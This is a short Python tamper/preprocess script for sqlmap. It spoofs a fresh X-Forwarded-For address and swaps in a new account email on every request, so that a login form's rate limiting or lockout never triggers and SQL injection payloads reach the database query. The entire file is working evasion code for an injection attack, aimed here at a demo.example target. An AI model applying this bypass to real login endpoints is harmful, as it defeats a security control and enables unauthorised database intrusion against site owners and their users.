"""Lets sqlmap try a log-in as often as it likes: each request comes from another address, and is for another account
while it is the password that is tried. Otherwise the fifth would be told to wait, and no statement would be reached."""

from itertools import count

ACCOUNT = "nobody%40demo.example"
requests = count()


def preprocess(request):
    number = next(requests)
    request.add_header("X-Forwarded-For", f"10.{number >> 16 & 255}.{number >> 8 & 255}.{number & 255}")
    if request.data:
        text = isinstance(request.data, str)
        data = request.data if text else request.data.decode()
        data = data.replace(f"email={ACCOUNT}&", f"email=nobody{number}%40demo.example&")
        request.data = data if text else data.encode()
